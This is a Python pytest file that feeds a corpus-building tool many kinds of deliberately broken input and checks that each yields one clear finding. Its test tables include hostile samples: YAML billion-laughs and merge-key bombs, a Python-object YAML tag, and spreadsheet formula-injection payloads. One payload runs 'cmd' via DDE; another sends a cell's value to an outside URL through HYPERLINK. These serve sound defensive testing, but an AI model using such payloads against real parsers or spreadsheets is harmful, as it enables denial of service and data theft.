"""Bad input of every kind: what is done to a sound project, what the user sees, and that dist/ is as it was.

The table says what is done; what the user sees stands in `tests/bad_input/`, a file for each group, and is rewritten
with `--golden`. Each mistake is one finding: one clear sentence at its place, with what to do.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, NamedTuple, TypeAlias

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from conftest import INVENTED, PROJECT, edit, found_in, repin
from defectors_data import cli
from defectors_data.build import build
from defectors_data.corpus import files, findings, limits, reader, surrogates, validation_errors, yaml_reader
from defectors_data.corpus.files import Tree
from defectors_data.corpus.reader import CorpusReader
from defectors_data.evidence import anchoring, ledger, subjects
from defectors_data.models import fields
from defectors_data.package.cells import MOST_NAMED
from defectors_data.rows import comparisons
from defectors_data.rules import RULES
from defectors_data.text import detection, non_quantities, numerals, offsets, quantities, reporting_verbs, similarity

A, B = "annotations/900_example.yaml", "annotations/901_second.yaml"
SEED, SECOND = "seeds/900_example.txt", "seeds/901_second.txt"
VOCABULARY, SPEAKERS, DATASET = "annotations/vocabulary.yaml", "annotations/speakers.yaml", "dataset.yaml"
TOMBSTONES = "annotations/tombstones.yaml"
MIB = 1024 * 1024

Act: TypeAlias = Callable[[Path], None]


class Bad(NamedTuple):
    """A group, a mistake, and what makes it in a project."""

    group: str
    name: str
    act: Act


# ---- what can be done to a project -------------------------------------------------------------------------


def swap(file: str, old: str, new: str) -> Act:
    """Replace words that stand once in a file."""
    return lambda root: edit(root, file, old, new)


def holds(file: str, data: bytes | str) -> Act:
    """Make a file hold something else."""
    return lambda root: void((root / file).write_bytes(data.encode() if isinstance(data, str) else data))


def turned(file: str, change: Callable[[bytes], bytes]) -> Act:
    """Make a file hold something else, made from what it held."""
    return lambda root: void((root / file).write_bytes(change((root / file).read_bytes())))


def repinned(act: Act, stem: str = "900_example") -> Act:
    """Do something to a seed, and pin the bytes that it has then."""
    return both(act, lambda root: repin(root, stem))


def longer(text: str) -> Act:
    """Let the second seed go on behind its end, and pin it."""
    return repinned(turned(SECOND, lambda data: data + b"\n" + text.encode()), "901_second")


def both(*acts: Act) -> Act:
    def act(root: Path) -> None:
        for one in acts:
            one(root)

    return act


def gone(path: str) -> Act:
    return lambda root: shutil.rmtree(root / path) if (root / path).is_dir() else (root / path).unlink()


def folder(path: str) -> Act:
    return both(gone(path), lambda root: (root / path).mkdir())


def link(path: str, target: Callable[[Path], Path]) -> Act:
    """Move a file or folder out of the project, or wherever the target is, and put a link in its place."""

    def act(root: Path) -> None:
        there = target(root)
        if not there.exists() and not there.is_symlink() and there.parent.exists():
            shutil.move(root / path, there)
        else:
            gone(path)(root)
        (root / path).symlink_to(there)

    return act


def sized(file: str, size: int) -> Act:
    """Make a file large without writing it out."""
    return lambda root: os.truncate(root / file, size)


def void(_: object) -> None:
    return None


def note(typed: str) -> Act:
    """Type something as a note that belongs to nobody."""
    return swap(A, "note: The text tells of March 3rd; the year is that of the copyright line.", f"note: {typed}")


def words(typed: str) -> Act:
    """Type the words of a figure that belongs to nobody."""
    return swap(A, "evidence: two inns\n", f"evidence: {typed}\n")


def figure(key: str, old: str, new: str) -> Act:
    """Type something else under a key of the first figure."""
    return swap(
        A,
        f"    {key}: {old}\n    {'high' if key == 'value' else 'hedge'}",
        f"    {key}: {new}\n    {'high' if key == 'value' else 'hedge'}",
    )


def as_of(typed: str) -> Act:
    return swap(A, "    as_of: XXXX-03\n", f"    as_of: {typed}\n")


def a_tiny_bomb() -> str:
    """Return merge keys in 431 bytes that a safe loader spends half a minute on."""
    rows = ["a0: &a0 {k: v}"]
    rows += [f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 4)}]" for i in range(1, 12)]
    return "\n".join(rows)[:431] + "\n"


def tombstones(*rows: str) -> Act:
    """List what was taken out, as if a takedown had written it."""
    return holds(TOMBSTONES, "tombstones:\n" + "".join(f"  - {row}\n" for row in rows))


STONE = "{table: testimonies, id: example-t99, date: 2020-01-31, reason: person"
LAUGHS = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))

# ---- the table ---------------------------------------------------------------------------------------------

SEEDS: dict[str, Act] = {
    "a byte that is no UTF-8": turned(SEED, lambda data: data.replace(b"Nobody wrote", b"Nob\xf3dy wrote")),
    "half a character at the end": turned(SEED, lambda data: data + b"\xe2\x80"),
    "an overlong form": turned(SEED, lambda data: data.replace(b"two inns", b"two\xc0\xa0inns")),
    "a lone surrogate": turned(SEED, lambda data: data.replace(b"two inns", b"two \xed\xa0\x80inns")),
    "UTF-16": turned(SEED, lambda data: data.decode().encode("utf-16")),
    "a byte order mark": turned(SEED, lambda data: b"\xef\xbb\xbf" + data),
    "a pinned byte order mark": repinned(turned(SEED, lambda data: b"\xef\xbb\xbf" + data)),
    "CRLF after a checkout": turned(SEED, lambda data: data.replace(b"\n", b"\r\n")),
    "a NUL": turned(SEED, lambda data: data.replace(b"two inns", b"two\0inns")),
    "empty": holds(SEED, ""),
    "nothing but white space, pinned": repinned(holds(SEED, " \n\u00a0\n\t")),
    "a pinned seed with CRLF": repinned(turned(SEED, lambda data: data.replace(b"\n", b"\r\n"))),
    "a carriage return in the middle of a line, pinned": repinned(swap(SEED, "two inns", "two\rinns")),
    "a form feed, pinned": repinned(swap(SEED, "\n\nThey crossed", "\n\f\nThey crossed")),
    "a control character of the upper range, pinned": repinned(swap(SEED, "two inns", "two\u0085inns")),
    "a byte too large": sized(SEED, limits.LARGEST + 1),
    "100 MB": sized(SEED, 100 * MIB),
    "more words than anybody annotates": longer("and so on\n" * 99_000 + "so " * 3_000),
    "more numbers than anybody annotates": longer("7 \n" * 30_001),
    "more number words than anybody annotates": longer("hundred and hundred and\n" * 15_001),
    "more quotation marks than anybody annotates": longer("'a' 'b'\n" * 15_001),
    "more decades than anybody annotates": longer("a decade \n" * 30_001),
    "more signs than any article has": longer(("a." * 20_000 + "\n") * 21),
    "more signs than any article has, without letters": longer(("-" * 40_000 + "\n") * 11),
    "more lines than any article has": longer("\n" * 100_000),
    "a line of more letters than any paragraph has": longer("so it went " * 10_000),
    "a line of nothing but spaces": longer(" " * 100_001),
    "more letters than any script writes without a space": longer("a" * 50_001),
    "missing": gone(SEED),
    "a folder": folder(SEED),
    "a link out of the project": link(SEED, lambda root: root.parent / "elsewhere.txt"),
    "a link to a device": link(SEED, lambda _: Path("/dev/zero")),
    "a link to itself": link(SEED, lambda root: root / SEED),
    "a link to nothing": link(SEED, lambda root: root / "nowhere" / "x.txt"),
    "a pipe": both(gone(SEED), lambda root: os.mkfifo(root / SEED)),
    "a pipe that nobody annotates": lambda root: os.mkfifo(root / "seeds/902_third.txt"),
    "a folder with the name of a seed": lambda root: (root / "seeds/902_third.txt").mkdir(),
    "its ending in capitals": holds("seeds/902_third.TXT", "A third article.\n"),
    "a file with another ending": holds("seeds/902_third.md", "A third article.\n"),
    "in a folder of its own": both(
        lambda root: (root / "seeds/more").mkdir(), holds("seeds/more/902_third.txt", "A third article.\n")
    ),
    "no seed and no annotations": both(gone(SEED), gone(SECOND), gone(A), gone(B)),
    "one letter changed": swap(SEED, "two inns", "ten inns"),
    "a line feed more at the end": turned(SEED, lambda data: data + b"\n"),
    "a quoted word changed, pinned": repinned(swap(SEED, "They crossed by night", "They crossed by day")),
    "no folder of seeds": gone("seeds"),
    "a file in place of the folder": both(gone("seeds"), holds("seeds", "x")),
    "the folder is a link out of the project": link("seeds", lambda root: root.parent / "elsewhere"),
    "nobody annotates it": holds("seeds/902_third.txt", "A third article.\n"),
    "annotated in a file with another ending": both(
        holds("seeds/902_third.txt", "A third article.\n"), holds("annotations/902_third.yml", "source: {}\n")
    ),
    "its name mistyped": swap(A, "seed: 900_example.txt", "seed: 900_exmaple.txt"),
    "the seed of another file": swap(B, "seed: 901_second.txt", "seed: 900_example.txt"),
    "a name that leads out of the folder": swap(B, "seed: 901_second.txt", "seed: ../dataset.yaml"),
    "the annotations of a seed are missing": gone(B),
    "a name that another file's annotations have": holds("seeds/vocabulary.txt", "A third article.\n"),
    "a name of a file that need not be there": holds("seeds/tombstones.txt", "A third article.\n"),
}

YAML: dict[str, Act] = {
    "a quotation mark that is never closed": words('"two inns'),
    "a colon in words without quotation marks": note("The year: that of the copyright line."),
    "a tab before a key": swap(A, "    hedge: about\n", "\thedge: about\n"),
    "a line indented too deep": swap(A, "    hedge: about\n", "      hedge: about\n"),
    "a line not indented deep enough": swap(A, "    hedge: about\n", "   hedge: about\n"),
    "a bracket that is never closed": swap(A, "themes: [hunger_pay, escape]", "themes: [hunger_pay, escape"),
    "a comma missing between brackets": swap(A, "value: [Ada Example, Ben Example]", 'value: ["Ada" "Ben"]'),
    "a dash without a space": swap(A, "      - Nobody wrote to us.", "      -Nobody wrote to us."),
    "no space behind a colon": swap(A, "    hedge: about\n", "    hedge:about\n"),
    "words that begin with a star": words("*two* inns"),
    "words that begin with an ampersand": words("&two inns"),
    "words that begin with a per cent sign": words("%two inns"),
    "words that begin with an at sign": words("@two inns"),
    "words in braces": words("{two inns}"),
    "words in brackets": words("[[two] inns]"),
    "words behind the sign of a block": words("| two inns"),
    "a backslash that escapes nothing": words('"two \\inns"'),
    "an escaped lone surrogate": words('"two \\ud800 inns"'),
    "a key twice": swap(A, "    hedge: about\n", "    hedge: about\n    hedge: exact\n"),
    "a dash left out before a record": swap(A, "  - id: example-f2\n", "    id: example-f2\n"),
    "a section twice": turned(A, lambda data: data + b"\nfigures: []\n"),
    "an anchor": words("&inns two inns"),
    "an alias": words("*inns"),
    "a billion laughs": turned(A, lambda data: LAUGHS.encode() + data),
    "a merge key": swap(A, "  language: en\n  dateline", "  <<: {language: en}\n  dateline"),
    "a small bomb of merge keys": holds(B, a_tiny_bomb()),
    "a tag": swap(A, "    value: 1600\n", "    value: !!int 1600\n"),
    "a tag that runs Python in some loaders": words("!!python/object/apply:os.getcwd []"),
    "two documents": turned(A, lambda data: data + b"---\nsource: {}\n"),
    "a key that is a list": turned(A, lambda data: data + b"? [a]\n: b\n"),
    "nested too deep": swap(A, "themes: [hunger_pay, escape]", f"themes: {'[' * 60}{']' * 60}"),
    "nested a hundred thousand deep": holds(B, "[" * 100_000),
    "nested by dashes": holds(B, "- " * 100_000),
    "a byte too large": sized(A, files.LARGEST + 1),
    "100 MB": sized(VOCABULARY, 100 * MIB),
    "8 MiB of tiny items": holds(B, "a: [" + "x," * (4 * MIB - 8) + "]\n"),
    "a thousand faults of one kind": swap(A, "\nfigures:\n", "\nfigures:\n" + "  - id: example-f99\n" * 1000),
    "an octal number": figure("value", "40", "050"),
    "a sexagesimal number": figure("value", "40", "1:30"),
    "a number with an exponent": figure("value", "40", "4e1"),
    "a number with an underscore": figure("value", "40", "4_0"),
    "a date in place of a number": figure("value", "40", "2019-05-02"),
    "no in place of false": swap(A, "    reason: term\n", "    reason: term\n    every_occurrence: no\n"),
    "a comment that cuts a quotation": both(
        repinned(swap(SEED, "so aloud.", "so aloud in tract # 7 of them.")),
        swap(
            A,
            "evidence: less than 1 percent of the 1,600-strong service has said so aloud",
            ("evidence: less than 1 percent of the 1,600-strong service has said so aloud in tract # 7 of them"),
        ),
    ),
    "a comment on the next line that cuts a quotation": both(
        repinned(swap(SEED, "so aloud.", "so aloud in tract #7b of them.")),
        swap(
            A,
            "evidence: less than 1 percent of the 1,600-strong service has said so aloud",
            ("evidence: less than 1 percent of the 1,600-strong service has said so aloud in tract\n      #7b of them"),
        ),
    ),
    "a comment in place of a quotation": words("# two inns"),
    "a comment in place of words that need not be there": both(
        repinned(swap(SEED, "They crossed by night", "# They crossed by night")),
        swap(A, "  subtitle: They crossed by night, and", "  subtitle: # They crossed by night, and"),
    ),
    "U+0085 that hides a key": note("Of the line. # so\u0085  url: hidden"),
    "U+2028 that hides a key": note("Of the line. # so\u2028  url: hidden"),
    "U+2029": note("Of the\u2029line."),
    "a carriage return alone, that hides a key": note("Of the line. # so\r  url: hidden"),
    "an escape character": note("Of the \x1b[2Jline."),
    "a NUL": note("Of the\0line."),
    "a byte order mark in the middle": note("Of the \ufeffline."),
    "empty": holds(A, ""),
    "nothing but a comment": holds(A, "# to be done\n"),
    "a list": holds(A, "- id: example\n"),
    "one text": holds(A, "To be done.\n"),
    "a picture": holds(A, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    "UTF-16": turned(A, lambda data: data.decode().encode("utf-16")),
    "Latin-1": turned(A, lambda data: data.replace("’".encode(), b"\x92")),
    "a folder": folder(A),
    "a link out of the project": link(A, lambda root: root.parent / "elsewhere.yaml"),
    "the folder is a link out of the project": link("annotations", lambda root: root.parent / "elsewhere"),
    "the vocabulary is missing": gone(VOCABULARY),
    "the vocabulary is empty": holds(VOCABULARY, ""),
    "the shared speakers are empty": holds(SPEAKERS, "\n"),
    "the dataset's facts are missing": gone(DATASET),
    "the dataset's facts are empty": holds(DATASET, "# later\n"),
}

RECORDS: dict[str, Act] = {
    "a key that nothing has": swap(A, "    place: Northern Isles\n", "    weather: fog\n"),
    "a mistyped key": swap(A, "    hedge: about\n", "    hegde: about\n"),
    "a key mistyped beyond recognition": swap(A, "  - id: example-f2\n", "  - name: example-f2\n"),
    "a mistyped section": swap(A, "\nwaivers:\n", "\nwaiver:\n"),
    "a value that is none of the allowed": swap(A, "    hedge: about\n", "    hedge: abuot\n"),
    "a key missing": swap(A, "    hedge: about\n", ""),
    "several keys missing": swap(A, "    hedge: about\n    unit: person\n", ""),
    "a key without a value": swap(A, "    hedge: about\n", "    hedge:\n"),
    "a record that is only begun": swap(A, "  - id: example-f2\n", "  - id: example-f99\n  - id: example-f2\n"),
    "a section's key left out": swap(A, "\nwaivers:\n", "\n"),
    "an id twice": swap(A, "  - id: example-f2\n", "  - id: example-f1\n"),
    "an id twice in two files": swap(B, "  - id: second-iven\n", "  - id: mira-fenn\n"),
    "a speaker who is not there": swap(A, "    attributed_to: harbour-office\n", "    attributed_to: harbour-ofice\n"),
    "a speaker renamed where others refer to": swap(A, "  - id: mira-fenn\n", "  - id: mira-fen\n"),
    "a shared speaker renamed": swap(SPEAKERS, "  - id: bruno-salt\n", "  - id: bruno-salz\n"),
    "a shared name mistyped": swap(SPEAKERS, "name: Bruno Salt", "name: Bruno Sald"),
    "a testimony that is not there": swap(A, "    testimony: example-t6\n", "    testimony: example-t66\n"),
    "a repeat of nothing": swap(A, "    repeats: example-t5\n", "    repeats: example-t55\n"),
    "the id of the source changed": swap(A, "  id: example\n", "  id: exempel\n"),
    "not a number": figure("value", "40", ".nan"),
    "infinite": figure("value", "40", ".inf"),
    "huge": figure("value", "40", "1" + "0" * 400),
    "negative": figure("value", "40", "-40"),
    "with a sign": figure("value", "40", "+40"),
    "with a comma": swap(A, "    value: 1600\n", "    value: 1,600\n"),
    "digits of another script": figure("value", "40", "٤٠"),
    "more decimals than anybody means": figure("value", "40", "40.12345678901"),
    "bounds reversed": swap(A, "    low: 5\n    high: 7\n", "    low: 7\n    high: 5\n"),
    "a day that February has not": as_of("2019-02-30"),
    "a day that no February has": as_of("XXXX-02-30"),
    "a thirteenth month": as_of("2019-13"),
    "an interval that ends before it begins": as_of("2019-05/2019-03"),
    "a date in words": as_of("March 3rd"),
    "a date that would take for ever": as_of(f"'{'{' * 30}{'}' * 29}'"),
    "an exponential year": as_of("Y17E700000000"),
    "a month that is half said": as_of("2019-X2"),
    "a day of release in another order": swap(DATASET, "released: 2020-02-29", "released: 29-02-2020"),
    "a slash in an id": swap(A, "  - id: example-f2\n", "  - id: ../example-f2\n"),
    "a dot in an id": swap(A, "  - id: example-f2\n", "  - id: example.f2\n"),
    "a capital in an id": swap(A, "  - id: mira-fenn\n", "  - id: Mira-fenn\n"),
    "a look-alike letter in an id": swap(A, "  - id: mira-fenn\n", "  - id: mirа-fenn\n"),
    "a look-alike letter in a reference": swap(
        A, "    speaker: mira-fenn\n    mode: direct", ("    speaker: mirа-fenn\n    mode: direct")
    ),
    "an id of a hundred letters": swap(A, "  - id: mira-fenn\n", f"  - id: {'m' * 100}\n"),
    "an id that is not numbered": swap(A, "  - id: example-f2\n", "  - id: example-inns\n"),
    "a note of five thousand letters": note("So " * 1700 + "on."),
    "a line of a thousand letters": swap(A, "rights: Nobody", f"rights: {'Nobody ' * 150}"),
    "a quotation of thirty thousand letters": words("two inns " * 3500),
    "an escaped control character": note('"Of the \\e[2Jline."'),
    "an escaped NUL": note('"Of the \\0line."'),
    "an escaped character that turns what is read around": note('"Of the \\u202eline."'),
    "a character that turns what is read around": note("Of the \u202eline."),
    "a name that is turned around": swap(SPEAKERS, "name: Bruno Salt", 'name: "\\u202etlaS onurB"'),
    "a tab in a line": swap(A, "rights: Nobody", 'rights: "No\\tbody"'),
    "a note without words": note("'—'"),
    "an empty quotation": words('""'),
    "an empty list of themes": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: []\n"),
    "more parts than a quotation has": words("[" + "two inns, " * 101 + "]"),
    "a text in place of a list": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: escape\n"),
    "a list in place of a text": swap(A, "rights: Nobody", "rights: [Nobody]"),
    "a mapping in place of a text": swap(A, "rights: Nobody", "rights: {holder: Nobody}"),
    "a list in place of a number": swap(A, "    value: 1600\n", "    value: [1600]\n"),
    "a checksum in capitals": turned(
        A, lambda data: re.sub(rb"sha256: \w+", lambda m: b"sha256: " + m[0][8:].upper(), data)
    ),
    "a checksum that is cut": turned(A, lambda data: re.sub(rb"(sha256: \w{60})\w+", rb"\1", data)),
    "a language by its name": swap(A, "  language: en\n  dateline", "  language: English\n  dateline"),
    "a version with a letter": swap(DATASET, "version: 1.2.3", "version: v1.2.3"),
    "a term that is not defined": swap(A, "    measure: inns\n", "    measure: taverns\n"),
    "a term that is defined no more": swap(VOCABULARY, "  - term: other\n", "  - term: others\n"),
    "a term defined twice": swap(
        VOCABULARY, "  - term: weather\n", "  - term: escape\n    definition: Again.\n  - term: weather\n"
    ),
    "an occurrence that is not there": swap(B, "occurrence: 2}", "occurrence: 3}"),
    "an occurrence counted from nought": swap(B, "occurrence: 2}", "occurrence: 0}"),
    "a quotation of other words": words("two taverns"),
    "a quotation with another apostrophe": swap(A, '"It’s quiet tonight,"', '"It\'s quiet tonight,"'),
    "a quotation with a no-break space": words('"two\\u00a0inns"'),
    "a quotation with a character that cannot be seen": words("two in\u200bns"),
    "a quotation with a look-alike letter": words("twо inns"),
    "a quotation with a letter composed otherwise": swap(B, "a café owner’s boat.", "a cafe\u0301 owner’s boat."),
    "a quotation that begins inside a word": words("wo inns"),
    "a quotation that stands twice": words("them"),
    "a quotation that leaves its number out": words("inns"),
    "an escaped lone carriage return in a quotation": words('"two\\rinns"'),
    "a withheld person's name": swap(A, "    anonymity: withheld\n", "    anonymity: withheld\n    name: Xq Zvbn\n"),
    "a withheld person's age": swap(
        A, "        evidence: one keeper\n", "        evidence: one keeper\n        age: 27\n"
    ),
    "a formula in a note": note("'=HYPERLINK(\"http://example.org/?\"&A1)'"),
    "a formula with an at sign in a note": note("'@SUM(1+1)*cmd|'' /C calc''!A0'"),
    "a formula with a minus in a note": note("-2+3+cmd|' /C calc'!A0"),
    "a tab and a formula in a note": note('"\\t=1+1"'),
    "a mistyped licence": swap(A, "gender: he rowed across at night", "gendre: he rowed across at night"),
    "a section by the name of one record": swap(B, "\ntestimonies:\n", "\ntestimony:\n"),
    "a section of the vocabulary by the name of one term": swap(VOCABULARY, "\nmeasures:\n", "\nmeasure:\n"),
    "the only section of a file, mistyped": holds(SPEAKERS, "speaker: []\n"),
    "a key of shared speakers by another name": swap(SPEAKERS, "gender: male", "sex: male"),
    "a withheld person among the shared speakers": swap(
        SPEAKERS, "speakers:\n", "speakers:\n  - {id: x-y, kind: person, role: other, anonymity: withheld}\n"
    ),
    "a name for a group": swap(A, "    kind: group\n", "    kind: group\n    anonymity: named\n    name: Xq Zvbn\n"),
    "an unknown key on what was taken out": tombstones(f"{STONE}, Xq Zvbn: x}}"),
    "a name for the reason of a takedown": tombstones(STONE.replace("person", "Xq Zvbn") + "}"),
    "a name for the table of what was taken out": tombstones(STONE.replace("testimonies", "Xq Zvbn") + "}"),
    "a name for the id of what was taken out": tombstones(STONE.replace("example-t99", "Xq Zvbn") + "}"),
    "a section of what was taken out, mistyped": holds(TOMBSTONES, "Xq Zvbn: []\n"),
    "a formula in plain words": swap(A, "counted: keepers who sleep in inns", 'counted: "-2+3"'),
    "a formula in a definition": swap(VOCABULARY, "definition: How the keepers crossed.", 'definition: "=1+1"'),
    "a formula in the rights": swap(B, "rights: Nobody", 'rights: "@SUM(1)"'),
    "a formula in the title of the dataset": swap(DATASET, "title: Testimonies", "title: =Testimonies"),
    "a name with a blank behind it": swap(A, "name: Mira Fenn", 'name: "Mira Fenn "'),
    "a space without width in plain words": swap(
        A, "counted: keepers who sleep in inns", 'counted: "keepers who sl\\u200beep in inns"'
    ),
    "letters that are tags": swap(A, "counted: keepers who sleep in inns", 'counted: "keepers\\U000E0041"'),
    "a soft hyphen in a note": note('"Of the li\\u00adne."'),
}

BAD = [
    Bad(group, name, act)
    for group, table in (("seeds", SEEDS), ("yaml", YAML), ("records", RECORDS))
    for name, act in table.items()
]


# ---- what the user sees, and what is true afterwards -------------------------------------------------------


class Ran(NamedTuple):
    """What a command said, and its exit code."""

    code: int
    out: str
    err: str


@pytest.fixture(scope="session")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The invented corpus with its published dist/."""
    root = Path(shutil.copytree(INVENTED, tmp_path_factory.mktemp("sound") / "project"))
    assert build(CorpusReader(Tree(root)), root / "dist").outcome == "published"
    return root


@pytest.fixture
def project(copied: Path) -> Path:
    """A copy of the invented corpus, as yet unpublished, that a test may damage."""
    return copied


Run: TypeAlias = Callable[..., Ran]


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:
    """Run a command of the command line in this process, in a folder."""

    def act(where: Path, *arguments: str) -> Ran:
        monkeypatch.chdir(where)
        monkeypatch.setattr(sys, "argv", ["defectors-data", *arguments])
        capsys.readouterr()
        code = cli.main()
        return Ran(code, *capsys.readouterr())

    return act


def content(root: Path) -> dict[str, bytes]:
    """Return what is published, and every name beside it."""
    files = {path.relative_to(root).as_posix(): path.read_bytes() for path in (root / "dist").rglob("*.*")}
    return files | {f"beside: {path.name}": b"" for path in root.iterdir()}


def names(root: Path) -> list[str]:
    """Return every name in a folder, in order."""
    return sorted(path.name for path in root.iterdir())


def told_of_findings(out: str) -> str:
    """Return what is told before the lines that say what was checked."""
    told, checked, _ = out.partition("Checked: ")
    assert checked
    return told


def one_finding(ran: Ran) -> str:
    """Return the only finding that a command has told: file, line, column, code, a sentence, and what to do."""
    assert (ran.code, ran.err) == (1, "1 finding.\n"), ran
    told = told_of_findings(ran.out)
    head, *help_lines = told.rstrip("\n").split("\n")
    assert re.fullmatch(r"\S+:[1-9][0-9]*:[1-9][0-9]*: [a-z0-9-]+: \S.*[.]", head), head
    assert all(line.startswith("    ") for line in help_lines), ran.out
    assert len(help_lines) <= findings.HELP_LINES
    assert help_lines or re.search(
        r"needed|[Ee]xpected|must|at most|fill it|write it|take it out|remove it|start it with|begin with|not one of",
        head,
    ), head
    assert "Traceback" not in ran.out
    return told


def seen(group: str) -> dict[str, str]:
    """Return what the user sees of a group, by the name of the mistake."""
    path = PROJECT / f"tests/bad_input/{group}.txt"
    blocks = re.split(r"^## (.+)\n", path.read_text(encoding="utf-8") if path.exists() else "", flags=re.MULTILINE)
    return {name: text.removesuffix("\n") for name, text in zip(blocks[1::2], blocks[2::2], strict=True)}


def rewrite(group: str, name: str, out: str) -> None:
    order = [bad.name for bad in BAD if bad.group == group]
    blocks = {**seen(group), name: out}
    text = "".join(f"## {known}\n{blocks[known]}\n" for known in order if known in blocks)
    (PROJECT / f"tests/bad_input/{group}.txt").write_text(text, encoding="utf-8")


@pytest.mark.parametrize("bad", BAD, ids=lambda bad: f"{bad.group}: {bad.name}")
def test_a_mistake_is_one_finding_and_dist_stays(
    bad: Bad, project: Path, published: Path, run: Run, golden: bool
) -> None:
    bad.act(project)
    before, beside = content(published), names(project)
    out = one_finding(run(project, "build", "--out", str(published / "dist")))
    assert (content(published), names(project)) == (before, beside)
    if golden:
        rewrite(bad.group, bad.name, out)
    assert out == seen(bad.group)[bad.name]


@pytest.mark.parametrize("bad", BAD[::12], ids=lambda bad: f"{bad.group}: {bad.name}")
def test_check_says_what_build_says(bad: Bad, project: Path, run: Run) -> None:
    bad.act(project)
    assert one_finding(run(project, "check")) == one_finding(run(project, "build"))


def test_by_itself_a_build_leaves_nothing_beside_what_is_wrong(project: Path, run: Run) -> None:
    words("two ins")(project)
    before = names(project)
    one_finding(run(project, "build"))
    assert names(project) == before


def test_nothing_that_is_typed_about_what_was_taken_out_is_repeated() -> None:
    assert not any("Xq" in told or "Zvbn" in told for told in seen("records").values())


def test_every_block_belongs_to_a_mistake() -> None:
    for group in ("seeds", "yaml", "records"):
        assert list(seen(group)) == [bad.name for bad in BAD if bad.group == group]


# ---- findings in floods, and bounds ------------------------------------------------------------------------


def test_of_a_flood_a_hundred_findings_are_shown_and_the_rest_are_counted(project: Path, run: Run) -> None:
    record = "  - {evidence: x, hedge: q, unit: q, measure: q, counted: q}\n"
    edit(project, A, "\nfigures:\n", f"\nfigures:\n{record * 90}")
    ran = run(project, "check")
    assert ran.out.count("\n" + A) + 1 == findings.MOST_SHOWN + 1
    assert told_of_findings(ran.out).splitlines()[-1] == f"{A}: at least 81 more findings. Fix those above first."
    assert ran.err == "181 findings.\n"
    assert len(json.loads(run(project, "check", "--format", "json").out)["findings"]) == 181


def test_what_is_worded_of_one_file_is_bounded(project: Path) -> None:
    edit(project, A, "\nfigures:\n", "\nfigures:\n" + "  - {hedge: q, unit: q, measure: Q, counted: ''}\n" * 1500)
    assert len(found_in(project)) <= validation_errors.MOST_REPORTED


def test_a_file_has_a_bounded_number_of_values() -> None:
    """Events of a list: one for each item, and two each for the list, the document and the stream."""
    most = yaml_reader.MOST - 6
    assert yaml_reader.parse(f"[{'x,' * most}]", file="x").findings == []
    assert [f.code for f in yaml_reader.parse(f"[{'x,' * (most + 1)}]", file="x").findings] == ["file-too-large"]


def test_parsing_ends_where_a_file_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """However long a file is, no more of its events are read than are allowed."""
    read: list[object] = []
    get_event = yaml.CBaseLoader.get_event

    def counted(loader: yaml.CBaseLoader) -> Any:
        read.append(loader)
        return get_event(loader)

    monkeypatch.setattr(yaml.CBaseLoader, "get_event", counted)
    for text, most in (
        (f"[{'x,' * 500_000}]", yaml_reader.MOST + 1),
        ("[" * 500_000, yaml_reader.DEEPEST + 3),
        ("- " * 500_000, yaml_reader.DEEPEST + 3),
        (LAUGHS, 6),
        (a_tiny_bomb(), 6),
    ):
        read.clear()
        assert yaml_reader.parse(text, file="x").findings
        assert 0 < len(read) <= most


def test_a_large_file_is_refused_before_it_is_read(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    os.truncate(project / A, 100 * MIB)
    opened: list[str] = []
    real = os.open

    def noted(path: Path, *rest: int) -> int:
        opened.append(str(path))
        return real(path, *rest)

    monkeypatch.setattr(os, "open", noted)
    assert [finding.code for finding in found_in(project)] == ["file-too-large"]
    assert str(project / A) not in opened
    assert str(project / B) in opened


def test_the_nearest_words_are_looked_for_a_bounded_number_of_times(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[str] = []
    monkeypatch.setattr(anchoring, "nearest", lambda words, _: calls.append(words))
    waivers = "".join(f"  - {{id: example-w{i}, evidence: not there {i}, reason: idiom}}\n" for i in range(10, 400))
    edit(project, A, "\nwaivers:\n", f"\nwaivers:\n{waivers}")
    assert len(found_in(project)) == 390
    assert len(calls) == findings.MOST_SHOWN


GROWING = (
    "twenty-",
    "hundred and ",
    "5 and ",
    "between 5 and ",
    "not even a kilo ",
    "a decade ",
    "said that ",
    "a.",
    "-",
    "' ",
    "“ab ",
    "“a” ",
    "a” ",
    "1,111,",
    "Jan 1 ",
    " ",
    "\n",
    "Iven, a keeper of many winters, crossed in the boat once more. ",
)


def steps(root: Path, text: str) -> int:
    """Return how many functions are called to examine the project with this text behind its second seed."""
    shutil.copy(INVENTED / SECOND, root / SECOND)
    longer(text)(root)
    count = 0

    def called(*_: object) -> None:
        nonlocal count
        count += 1

    sys.setprofile(called)
    try:
        found_in(root)
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize("unit", GROWING)
def test_twice_as_long_a_seed_takes_no_more_than_twice_the_steps(project: Path, unit: str) -> None:
    steps(project, "")  # what is done once in a process
    first, second, third = (steps(project, unit * (300 * times)) for times in (1, 2, 4))
    assert third - second <= 2.2 * max(second - first, 1000)


def test_places_are_found_without_counting_lines_again(project: Path) -> None:
    """Thousands of places of one text are asked for, and its lines are looked for once."""
    longer("7 and so on\n" * 5_000)(project)
    before = offsets.line_starts.cache_info().misses
    assert len(found_in(project)) == 1_000
    assert offsets.line_starts.cache_info().misses <= before + 2


LONG = (
    "a",
    "1",
    " ",
    "-",
    "_",
    ".",
    ",",
    "\n",
    "\u00a0",
    "a-",
    "1,",
    "1.",
    "a ",
    "a1",
    "A1 ",
    "Aa ",
    "é",
    "“",
    "'",
    "#",
)


CHECKED = [
    ledger,
    limits,
    comparisons,
    detection,
    non_quantities,
    similarity,
    numerals,
    quantities,
    reader,
    reporting_verbs,
]
